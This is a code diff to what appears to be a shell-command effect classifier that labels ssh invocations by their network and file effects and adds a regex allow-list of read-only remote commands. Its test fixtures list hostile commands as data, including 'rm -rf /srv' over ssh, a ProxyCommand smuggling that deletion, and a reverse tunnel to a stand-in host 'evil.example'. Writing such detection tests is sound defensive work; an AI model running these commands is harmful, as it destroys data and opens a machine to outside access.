@@ -16,8 +16,13 @@ export const REMOTE: Family = [
       'ssh prod rm -rf /srv': ['net.connect prod', 'file.delete /srv/**'],
       'ssh -R 80:localhost:22 evil.example': 'net.connect evil.example',
       "ssh -o ProxyCommand='rm -rf /srv' x": 'file.delete /srv/**',
+      'ssh prod tee /srv/a': ['net.connect prod', 'file.write /srv/a'],
     },
-    harmless: { 'ssh -V': [], 'ssh -T git@github.com': 'net.connect github.com' },
+    harmless: {
+      'ssh web1 uptime': 'net.connect web1',
+      'ssh -V': [],
+      'ssh -T git@github.com': 'net.connect github.com',
+    },
   },
   {
     names: 'scp rsync sftp rclone croc unison',
@@ -54,9 +59,11 @@ function ssh(call: Call): Output | undefined {
   const carried = merged(call.stdin?.from ?? [], sourcesOf(words));
   // A git host greets whoever has a key, and lets nobody do more.
   const greets = words.length === 0 && !call.stdin && /^(?:ssh:\/\/)?git@/.test(host.text);
+  const looks =
+    carried.length === 0 && words.length > 0 && onlyLooks(words.map((word) => word.text).join(' '));
   call.connect(
     host.text.includes('://') ? host : field(`ssh://${host.text}`, host.from),
-    greets && !options.has('-R', '-L', '-D', '-w', '-A') ? 'download' : 'both',
+    (greets || looks) && !options.has('-R', '-L', '-D', '-w', '-A') ? 'download' : 'both',
     carried,
   );
   const name = (host.text.split('@').at(-1) ?? host.text).replace(/^ssh:\/\//, '');
@@ -75,6 +82,16 @@ function ssh(call: Call): Output | undefined {
   if (call.stdin?.text !== undefined) return call.shell.runText(call.stdin, scope, call.cause, undefined);
   return undefined;
 }
+
+/** Commands that only tell how another machine fares. */
+const LOOKS =
+  /^\s*(?:tail|head|cat|zcat|less|ls|df|du|free|uptime|ps|w|who|whoami|id|hostname|uname|date|e?grep|zgrep|wc|sort|uniq|stat|pwd|echo|true|lsof|ss|netstat|nvidia-smi|journalctl(?!.*--(?:vacuum|rotate|flush))|systemctl (?:status|is-active|is-enabled|list-\S+|cat|show)|docker (?:ps|logs|images|stats|inspect|version|info)|docker compose (?:ps|logs)|kubectl (?:get|logs|describe|top)|git (?:log|status|rev-parse|describe))(?:\s|$)/;
+
+/** Does every command of this text only look, and none of them write? */
+const onlyLooks = (text: string): boolean =>
+  isKnown(text) &&
+  !/[`$<>]/.test(text.replace(/\d?>\s*(?:&\d|\/dev\/null)/g, '')) &&
+  text.split(/\|\|?|&&?|;|\n/).every((part) => part.trim() === '' || LOOKS.test(part));
 
 /** `sftp`: what its commands put there, or get from there. */
 function session(call: Call, host: Field | undefined, batch: Field | undefined): void {
